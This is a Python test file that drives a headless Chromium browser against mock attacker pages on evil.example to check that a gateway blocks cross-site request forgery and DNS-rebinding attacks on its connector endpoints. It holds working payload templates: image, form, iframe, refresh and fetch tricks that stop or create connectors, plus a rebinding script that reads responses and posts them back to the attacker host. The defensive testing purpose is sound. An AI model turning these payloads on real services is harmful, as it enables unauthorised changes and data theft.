"""Pages of others in a real browser against the GETs that change something: nothing is changed, and a rebound name reads nothing.

Everything that is tried is a connector that would be deleted, or made, by it. Between the browser and the gateway stands a
forwarder that notes what came, so that nothing passes as refused that was never sent.
"""

import asyncio
import http.client
import json
import os
import shutil
import signal
import threading
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import AbstractAsyncContextManager, asynccontextmanager, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
import pytest

from services.gateway.settings import GatewaySettings
from tests.services.gateway.conftest import executor_service, serving, system

__all__ = ["executor_service", "serving", "system"]
pytestmark = pytest.mark.slow
Serving = Callable[[GatewaySettings], AbstractAsyncContextManager[httpx.AsyncClient]]
CONFIG = {"connector.class": "file_source", "filename": "/in", "connect.topicname": "t"}
_OF_BROWSERS = ("origin", "referer", "user-agent")

ELEMENTS = {
    "img": '<img src="{url}" referrerpolicy="no-referrer">',
    "script": '<script src="{url}" referrerpolicy="no-referrer"></script>',
    "style": '<link rel="stylesheet" href="{url}" referrerpolicy="no-referrer">',
    "background": '<div style="background: url({url}); width: 9px; height: 9px"></div>',
    "frame": '<iframe src="{url}" referrerpolicy="no-referrer"></iframe>',
    "object": '<object data="{url}"></object>',
    "video": '<video src="{url}" preload="auto"></video>',
    "fetch": '<script>fetch("{url}", {{mode: "no-cors", referrerPolicy: "no-referrer"}}).catch(() => 0)</script>',
    "events": '<script>new EventSource("{url}")</script>',
    "redirect": '<img src="/evil/redirect?{url}" referrerpolicy="no-referrer">',
    # These leave their page, so each has a frame of its own.
    "link": '<a id="it" href="{url}" rel="noreferrer">x</a><script>document.getElementById("it").click()</script>',
    "form": '<form id="it" action="{url}"></form><script>document.getElementById("it").submit()</script>',
    "refresh": '<meta http-equiv="refresh" content="0; url={url}">',
    "moved": '<script>location.replace("/evil/redirect?{url}")</script>',
}
LEAVING = ("link", "form", "refresh", "moved")
POSTED = {
    "post": '<form id="it" method="post" enctype="text/plain" action="{url}"><input name="{name}" value="{value}"></form>'
    '<script>document.getElementById("it").submit()</script>',
}


class Forwarder:
    """Pages of an attacker below /evil/, and the gateway everywhere else, under whatever name the browser thinks that it is.

    Args:
        gateway: Where that is.
        hiding: What browsers say of themselves is taken away, as if the gateway looked at none of it.
    """

    def __init__(self, gateway: str, *, hiding: bool = False) -> None:
        self.pages: dict[str, str] = {}
        self.told: list[str] = []
        self.seen: dict[str, int] = {}
        self._gateway = urlsplit(gateway).netloc
        self._hiding = hiding

    @contextmanager
    def listening(self) -> Iterator[int]:
        forwarder = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                forwarder.answer(self)

            def do_POST(self) -> None:
                forwarder.answer(self)

            def log_message(self, *_: object) -> None:
                """Nothing is written to the terminal."""

        with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
            thread = threading.Thread(target=server.serve_forever, args=(0.05,))
            thread.start()
            try:
                yield server.server_address[1]
            finally:
                server.shutdown()
                thread.join()

    def answer(self, asked: BaseHTTPRequestHandler) -> None:
        path, _, query = asked.path.partition("?")
        body = asked.rfile.read(int(asked.headers.get("content-length", 0)))
        if path == "/evil/redirect":
            self._say(asked, 302, b"", {"Location": query})
        elif path == "/evil/told":
            self.told.append(body.decode())
            self._say(asked, 200, b"")
        elif path.startswith("/evil/"):
            page = self.pages.get(path.removeprefix("/evil/"), "")
            self._say(asked, 200 if page else 404, page.encode(), {"Content-Type": "text/html"})
        elif path == "/favicon.ico":
            self._say(asked, 404, b"")
        else:
            self._forward(asked, body)

    def _forward(self, asked: BaseHTTPRequestHandler, body: bytes) -> None:
        connection = http.client.HTTPConnection(self._gateway, timeout=30)
        try:
            connection.putrequest(asked.command, asked.path, skip_host=True, skip_accept_encoding=True)
            for name, value in asked.headers.items():
                small = name.lower()
                if not (self._hiding and (small in _OF_BROWSERS or small.startswith("sec-"))):
                    connection.putheader(name, value)
            connection.endheaders(body)
            answer = connection.getresponse()
            self._say(asked, answer.status, answer.read(), {"Content-Type": answer.headers["Content-Type"]})
            self.seen[f"{asked.command} {asked.path.partition('?')[0]}"] = answer.status
        finally:
            connection.close()

    @staticmethod
    def _say(asked: BaseHTTPRequestHandler, status: int, body: bytes, headers: dict[str, str] | None = None) -> None:
        asked.send_response(status)
        for name, value in {"Content-Length": str(len(body)), "Connection": "close", **(headers or {})}.items():
            asked.send_header(name, value)
        asked.end_headers()
        asked.wfile.write(body)


def attack(pages: dict[str, str], target: str) -> None:
    """Put a page among these that tries everything at the gateway behind this URL."""
    within = []
    for name, form in ELEMENTS.items():
        element = form.format(url=f"{target}/connectors/{name}/stop")
        if name in LEAVING:
            pages[name] = element
            element = f'<iframe src="/evil/{name}"></iframe>'
        within.append(element)
    text = json.dumps({**CONFIG, "x": ""})
    halves = [quoted.replace('"', "&quot;") for quoted in (text[:-2], text[-2:])]
    for name, form in POSTED.items():
        pages[name] = form.format(url=f"{target}/connectors/{name}", name=halves[0], value=halves[1])
        within.append(f'<iframe src="/evil/{name}"></iframe>')
    created = quote(json.dumps(CONFIG))
    within.append(f'<img src="{target}/connectors/made?config={created}">')
    pages["start"] = f"<!doctype html><body>{''.join(within)}"


ALL = (
    {f"GET /connectors/{name}/stop" for name in ELEMENTS}
    | {f"POST /connectors/{name}" for name in POSTED}
    | {"GET /connectors/made"}
)

REBOUND = """<!doctype html><script>
const read = async (path, options) => {
  try { return await (await fetch(path, options)).text() } catch (error) { return String(error) }
}
(async () => {
  const told = [await read("/connectors/img/stop"), await read("/connectors/list"), await read("/v1/connectors"),
    await read("/connectors/post", {method: "POST", body: JSON.stringify(CONFIG)})]
  await fetch("/evil/told", {method: "POST", body: JSON.stringify(told)})
})()
</script>""".replace("CONFIG", json.dumps(CONFIG))


@pytest.fixture
def chromium() -> str:
    found = shutil.which("chromium")
    if found is None:
        pytest.skip("there is no Chromium here (Debian: apt-get install chromium)")
    return found


@asynccontextmanager
async def browsing(chromium: str, folder: Path, url: str) -> AsyncIterator[None]:
    """A browser with a new profile that shows this page; names below .example lead to this machine."""
    flags = (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--disable-background-networking",
        "--disable-component-update",
        # What newer ones ask people first (requests to this machine) others just do.
        "--disable-features=HttpsUpgrades,HttpsFirstBalancedModeAutoEnable,LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets",
        "--no-first-run",
        "--no-proxy-server",
        f"--user-data-dir={folder / 'profile'}",
        "--host-resolver-rules=MAP *.example 127.0.0.1",
    )
    process = await asyncio.create_subprocess_exec(
        chromium,
        *flags,
        url,
        stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        await process.wait()


async def until(true: Callable[[], bool], seen: object) -> None:
    try:
        async with asyncio.timeout(60):
            while not true():
                await asyncio.sleep(0.05)
    except TimeoutError:
        pytest.fail(f"the browser did not do all of it: {seen}")


async def victims(rest: httpx.AsyncClient) -> None:
    for name in ELEMENTS:
        assert (await rest.post(f"/connectors/{name}", json=CONFIG)).status_code == 200


async def connectors(rest: httpx.AsyncClient) -> set[str]:
    return set((await rest.get("/connectors/list")).json()["body"])


@pytest.mark.parametrize("site", ["evil.example", "127.0.0.1"])
async def test_no_link_image_form_or_redirect_of_another_page_changes_anything(
    chromium: str, system: Any, serving: Serving, tmp_path: Path, site: str
) -> None:
    async with serving(system.settings()) as rest:
        await victims(rest)
        between = Forwarder(str(rest.base_url))
        with between.listening() as evil, between.listening() as ours:
            attack(between.pages, f"http://127.0.0.1:{ours}")
            async with browsing(chromium, tmp_path, f"http://{site}:{evil}/evil/start"):
                await until(lambda: between.seen.keys() >= ALL, between.seen)
        assert {asked: between.seen[asked] for asked in ALL} == dict.fromkeys(ALL, 403)
        assert await connectors(rest) == set(ELEMENTS)


async def test_a_name_that_leads_to_this_machine_meanwhile_reads_and_changes_nothing(
    chromium: str, system: Any, serving: Serving, tmp_path: Path
) -> None:
    async with serving(system.settings()) as rest:
        await victims(rest)
        between = Forwarder(str(rest.base_url))
        between.pages["start"] = REBOUND
        with between.listening() as port:
            async with browsing(chromium, tmp_path, f"http://rebound.example:{port}/evil/start"):
                await until(lambda: bool(between.told), between.seen)
        assert set(between.seen.values()) == {403}
        answers = json.loads(between.told[0])
        assert len(answers) == 4
        assert all("which is not let in" in answer and "filename" not in answer for answer in answers), answers
        assert await connectors(rest) == set(ELEMENTS)


async def test_the_same_pages_change_all_of_it_where_nothing_is_held_against_browsers(
    chromium: str, system: Any, serving: Serving, tmp_path: Path
) -> None:
    async with serving(system.settings()) as rest:
        await victims(rest)
        between = Forwarder(str(rest.base_url), hiding=True)
        with between.listening() as evil, between.listening() as ours:
            attack(between.pages, f"http://127.0.0.1:{ours}")
            async with browsing(chromium, tmp_path, f"http://evil.example:{evil}/evil/start"):
                await until(lambda: between.seen.keys() >= ALL, between.seen)
        assert {asked: between.seen[asked] for asked in ALL} == dict.fromkeys(ALL, 200)
        assert await connectors(rest) == {"post", "made"}
